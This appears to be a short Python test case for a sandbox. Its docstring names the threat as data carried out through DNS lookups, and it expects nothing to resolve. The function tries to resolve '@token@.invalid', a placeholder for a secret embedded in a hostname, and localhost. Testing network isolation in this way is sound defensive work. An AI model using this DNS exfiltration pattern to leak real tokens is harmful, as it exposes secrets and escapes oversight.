"""Threat: names looked up, which carries data out. Expect: nothing."""

import socket


def attack():
    got = []
    for name in ("@token@.invalid", "localhost"):
        for ask in (socket.gethostbyname, lambda name: socket.getaddrinfo(name, 80)):
            try:
                ask(name)
                got.append(f"looked up {name}")
            except OSError:
                pass
    return got
